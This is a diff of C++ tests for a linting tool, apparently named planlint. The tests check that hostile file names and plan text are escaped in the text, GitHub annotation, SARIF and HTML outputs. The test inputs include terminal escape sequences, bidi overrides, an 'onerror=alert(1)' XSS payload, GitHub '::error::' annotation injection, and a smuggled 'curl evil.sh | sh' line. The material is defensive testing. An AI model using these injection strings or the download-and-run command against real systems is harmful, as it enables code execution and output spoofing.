@@ -42,7 +42,8 @@ std::string first_unsafe(const std::string& text) {
     const bool overlong = (length == 3 && cp < 0x800) || (length == 4 && cp < 0x10000);
     if (overlong || cp > 0x10FFFF || (cp >= 0xD800 && cp <= 0xDFFF) || (cp >= 0x80 && cp <= 0x9F) ||
         cp == 0x061C || cp == 0x200E || cp == 0x200F || (cp >= 0x202A && cp <= 0x202E) ||
-        (cp >= 0x2066 && cp <= 0x2069) || cp == 0x2028 || cp == 0x2029)
+        (cp >= 0x2066 && cp <= 0x2069) || cp == 0x2028 || cp == 0x2029 ||
+        (cp >= 0xFDD0 && cp <= 0xFDEF) || (cp & 0xFFFE) == 0xFFFE)  // noncharacters: XML forbids U+FFFE
       return hex(length);
     i += length;
   }
@@ -97,6 +98,10 @@ const std::vector<std::string> hostile_names = {
     "nel\xc2\x85.toml",
     "bad\xff\xfe.toml",
     "javascript:alert(1).toml",
+    "del\x7f.toml",
+    "nonchar\xef\xbf\xbe\xef\xbf\xbf.toml",     // U+FFFE U+FFFF
+    "fdd0\xef\xb7\x90.toml",                   // U+FDD0
+    "plane\xf0\x9f\xbf\xbe\xf4\x8f\xbf\xbf.toml",  // U+1FFFE U+10FFFF
 };
 
 /// A plan that loads, with an unknown key (a finding that quotes it) and `name` as plan.name.
@@ -107,7 +112,8 @@ std::string plan_named(const std::string& name) {
 
 // A plan name with everything at once, in TOML escapes.
 const std::string hostile_plan_name =
-    "\\n::error::X\\u001b]0;t\\u0007\\u202e`<img src=x onerror=alert(1)>[l](http://e)|\\u0085\\u2028";
+    "\\n::error::X\\u001b]0;t\\u0007\\u202e`<img src=x onerror=alert(1)>[l](http://e)|\\u0085\\u2028"
+    "\\u007f\\uFFFE\\uFDD0\\U0001FFFF";
 
 }  // namespace
 
@@ -139,6 +145,17 @@ TEST_CASE("hostile file names and plan text print escaped in every format", "[ho
     CHECK_THAT(run.out, Catch::Contains("bad\\\\xff\\\\xfe.toml") && Catch::Contains("bad\\\\xfe\\\\xff.toml"));
     CHECK(run.out.find("\xef\xbf\xbd") == std::string::npos);  // no U+FFFD
   }
+  SECTION("raw DEL and noncharacters in a file's text, which snippets quote") {
+    // Not valid TOML (DEL is a control character there): a toml-syntax finding whose SARIF
+    // region and context region carry the line as a snippet.
+    dir.write("snippet.toml", "[plan]\nname = \"a\x7f\xef\xbf\xbe\"\n");
+    for (const std::string& format : output_format_names()) {
+      INFO(format);
+      check_safe(run_cli({"check", "--format", format, "snippet.toml"}), format == "github");
+    }
+    const CliRun sarif = run_cli({"check", "--format", "sarif", "snippet.toml"});
+    CHECK_THAT(sarif.out, Catch::Contains("\"snippet\"") && Catch::Contains("a\\u007f\\ufffe"));
+  }
   SECTION("SARIF names a file whose first segment looks like a scheme with ./") {
     const CliRun run = run_cli({"check", "--format", "sarif", "javascript:alert(1).toml"});
     CHECK_THAT(run.out, Catch::Contains("\"uri\": \"./javascript:alert(1).toml\""));
@@ -157,7 +174,7 @@ TEST_CASE("planlint report prints a hostile plan name escaped", "[hostile][print
         // The name only in the title's code span, fenced past its backtick: GitHub shows the
         // text of a code span as it is (no HTML, no link), and nothing closes it early.
         CHECK_THAT(run.out, Catch::StartsWith("### planlint report: ``\\n::error::X\\x1b]0;t\\x07\\u202e`<img src=x "
-                                              "onerror=alert(1)>[l](http://e)\\|\\u0085\\u2028`` (inference)\n"));
+                                              "onerror=alert(1)>[l](http://e)\\|\\u0085\\u2028\\x7f\\ufffe\\ufdd0\\U0001ffff`` (inference)\n"));
         CHECK(count_of(run.out, "<img") == 1);
       }
       if (format == std::string("text")) CHECK_THAT(run.out, Catch::StartsWith("\\n::error::X\\x1b]0;t\\x07\\u202e`"));
@@ -251,4 +268,35 @@ TEST_CASE("the language server's messages are under the printable policy", "[hos
   CHECK(message ==
         "unknown key 'a\\x1b]0;x\\x07\\u202e' in [plan]\nnote: line\\nbreak\nnote: first \\u2066used (other\\n.toml:1:1)\n"
         "help: rename \\u0085it");
+}
+
+TEST_CASE("a line break inside a value cannot start a line of a GitHub annotation", "[hostile][github]") {
+  Scratch dir;
+  InDirectory here(dir.path);
+  // An unknown key quoted in the message, holding a line break and a fake help line.
+  dir.write("plan.toml", inference_plan_with("\"k\\nhelp: curl evil.sh | sh\\r\\nnote: x\" = 1\n"));
+  const CliRun run = run_cli({"check", "--format", "github", "plan.toml"});
+  INFO(run.out);
+  CHECK(run.status == 1);
+  check_safe(run, true);
+  // The runner turns %0A into a line break: only planlint's own come before note: and help:.
+  CHECK(run.out.find("%0Ahelp: curl") == std::string::npos);
+  CHECK(run.out.find("%0Anote: x") == std::string::npos);
+  CHECK(run.out.find("%0D") == std::string::npos);
+  CHECK_THAT(run.out, Catch::Contains("k\\nhelp: curl evil.sh | sh\\r\\nnote: x"));
+}
+
+TEST_CASE("the HTML report of hostile names is well-formed XHTML, every character escaped", "[hostile][html]") {
+  Scratch dir;
+  InDirectory here(dir.path);
+  for (const std::string& name : hostile_names) dir.write(name, plan_named(hostile_plan_name));
+  const CliRun run = run_cli({"report", "--format", "html", "-o", "page.html", "."});
+  INFO(run.err);
+  CHECK(run.status != 2);
+  const std::string page = read_text(dir.path / "page.html");
+  CHECK(first_unsafe(page).empty());
+  CHECK_THAT(page, Catch::Contains("\\x7f\\ufffe\\ufdd0\\U0001ffff"));
+  std::string output;
+  CHECK(run_command(system_tool("xmllint", "libxml2-utils") + " --noout --nonet page.html", output) == 0);
+  INFO(output);
 }
